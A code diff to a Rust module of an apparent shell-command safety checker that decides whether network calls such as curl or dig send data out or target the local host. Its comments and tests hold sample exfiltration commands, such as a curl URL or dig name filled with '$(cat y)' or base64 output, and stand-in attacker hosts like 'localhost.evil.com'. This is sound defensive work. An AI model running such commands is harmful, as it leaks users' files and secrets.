@@ -1,43 +1,15 @@
 //! What a call that reaches another machine gives away: whether it only fetches, and from where.
 
-use shellgate_syntax::{self as syntax, RedirectOperator, Unknown, Value, Why, Word};
+use shellgate_syntax::Value;
 
 use super::Judge;
-use crate::calls::{Call, FoundCalls, Stdin};
+use crate::calls::{Call, Stdin};
 use crate::effect::{CallEffect, EffectName};
+use crate::hosts;
+use crate::programs::Canonical;
 use crate::programs::words::{
-    HTTP_CLIENTS, HTTP_METHODS, OTHER_HOST_OPTIONS, PLAIN_FACTS, PROXY_OPTIONS, SENDS_ITS_INPUT,
+    HTTP_CLIENTS, HTTP_METHODS, OTHER_HOST_OPTIONS, PROXY_OPTIONS, SENDS_ITS_INPUT,
 };
-use crate::programs::{Canonical, EffectKind, base_name, understand};
-
-/// The judge reads substitutions in the words of one call up to this much text. More of it counts as sending.
-const MAX_WORDS_BYTES: usize = 8192;
-
-/// How many variables that hold the output of commands are remembered.
-const MAX_OUTPUTS: usize = 64;
-
-/// Variables that a text sets to the output of commands, each with what is written there.
-#[derive(Debug, Default)]
-pub(super) struct Outputs {
-    all: Vec<(String, String)>,
-}
-
-impl Outputs {
-    pub(super) fn of(found: &FoundCalls, text: &str) -> Self {
-        let assignments = found.calls.iter().flat_map(|call| &call.assignments);
-        let written = assignments.filter_map(|one| {
-            let (name, value) = one.span.of(text).split_once('=')?;
-            let is_output = value.contains("$(") || value.contains('`');
-            (name.trim_end_matches('+') == one.name && is_output)
-                .then(|| (one.name.clone(), value.to_owned()))
-        });
-        Self { all: written.take(MAX_OUTPUTS).collect() }
-    }
-
-    fn get(&self, name: &str) -> impl Iterator<Item = &str> {
-        self.all.iter().filter(move |(own, _)| own == name).map(|(_, value)| value.as_str())
-    }
-}
 
 impl Judge<'_> {
     /// Says of what a call does on the network whether it sends something, by its words and its input.
@@ -52,20 +24,9 @@ impl Judge<'_> {
         }
     }
 
-    /// Whether an address of a call holds what another command reads: `curl "http://x/?$(cat y)"`, `dig $(base64 y).x`.
+    /// Whether a word of a call holds what another command reads: `curl "http://x/?$(cat y)"`, `xargs -I{} dig {}.x`.
     fn sends_output(&self, call: &Call) -> bool {
-        let written = call.words.iter().skip(1).filter(|word| word.value.known().is_none());
-        let written: Vec<&str> = written.filter_map(|word| call.written(word)).collect();
-        let has_commands = |text: &str| text.contains("$(") || text.contains('`');
-        let mut size = 0;
-        written.iter().any(|text| {
-            let variables = variables_in(text).flat_map(|name| self.outputs.get(name));
-            let mut all = [*text].into_iter().chain(variables).filter(|text| has_commands(text));
-            all.any(|text| {
-                size += text.len();
-                size > MAX_WORDS_BYTES || shows_files(text)
-            })
-        })
+        self.outputs.are_in(call) || self.is_filled_with_data(call)
     }
 
     /// Whether a call sends what it reads from its standard input, and there may be something.
@@ -145,41 +106,11 @@ fn is_own_host(address: &str) -> bool {
         Some(rest) => rest.split(']').next().unwrap_or(rest),
         None => host.split(':').next().unwrap_or(host),
     };
-    let is_address = host.starts_with("127.") && host.parse::<std::net::Ipv4Addr>().is_ok();
     // `:3000` of httpie.
     let is_port = host.is_empty() && authority.starts_with(':');
     // curl reads a backslash otherwise than others, and patterns as several addresses.
     !address.replace("[::1]", "").contains(['\\', '{', '['])
-        && (["localhost", "::1", "0.0.0.0"].contains(&host)
-            || host.ends_with(".localhost")
-            || is_address
-            || is_port)
-}
-
-/// The variables that a word as it is written has in it.
-fn variables_in(written: &str) -> impl Iterator<Item = &str> {
-    written.split('$').skip(1).filter_map(|rest| {
-        let rest = rest.strip_prefix('{').unwrap_or(rest);
-        let end = rest.find(|c: char| !c.is_ascii_alphanumeric() && c != '_').unwrap_or(rest.len());
-        rest.get(..end).filter(|name| !name.is_empty())
-    })
-}
-
-/// Whether a command in a word shows more than plain facts about the machine: the content of files, variables, what other programs say.
-fn shows_files(written: &str) -> bool {
-    let Ok(found) = syntax::read(&format!(": {written}")) else { return true };
-    found.invocations.iter().skip(1).any(|one| {
-        let name = one.words.first().and_then(|word| word.value.known()).map(base_name);
-        let is_plain = name.is_some_and(|name| PLAIN_FACTS.contains(&name));
-        let reads = |word: &Word| !matches!(&word.value, Value::Unknown(Unknown { why: Why::Process, .. }));
-        let shows = |effect: &crate::programs::Effect| match &effect.kind {
-            EffectKind::Reads(word) => reads(word),
-            EffectKind::Inline(..) | EffectKind::Opaque(..) => true,
-            _ => false,
-        };
-        let is_input = one.redirects.iter().any(|redirect| redirect.operator == RedirectOperator::Read);
-        !is_plain || is_input || understand(&one.words).effects.iter().any(shows)
-    })
+        && (is_port || hosts::normal(host).is_some_and(|host| hosts::is_own(&host)))
 }
 
 #[cfg(test)]
@@ -194,6 +125,9 @@ mod tests {
             ("http://[::1]:8080/", true),
             ("http://app.localhost/", true),
             (":3000/x", true),
+            ("http://127.1:3000", true),
+            ("http://[0:0:0:0:0:0:0:1]/", false),
+            ("http://128.1:3000", false),
             ("http://localhost.evil.com/", false),
             ("http://localhost@evil.com/", false),
             ("http://evil.com/localhost", false),
@@ -202,21 +136,6 @@ mod tests {
             ("http://evil.com\\localhost", false),
         ] {
             assert_eq!(is_own_host(address), expected, "{address}");
-        }
-    }
-
-    #[test]
-    fn plain_facts_are_nothing_to_hide() {
-        for (written, expected) in [
-            ("$(cat x)", true),
-            ("a$(base64 < x)b", true),
-            ("`cat x`", true),
-            ("$(env)", true),
-            ("kubectl-$(uname -s)-$(uname -m)", false),
-            ("$(uname -s | tr A-Z a-z)", false),
-            ("$(date +%F)", false),
-        ] {
-            assert_eq!(shows_files(written), expected, "{written}");
         }
     }
 }
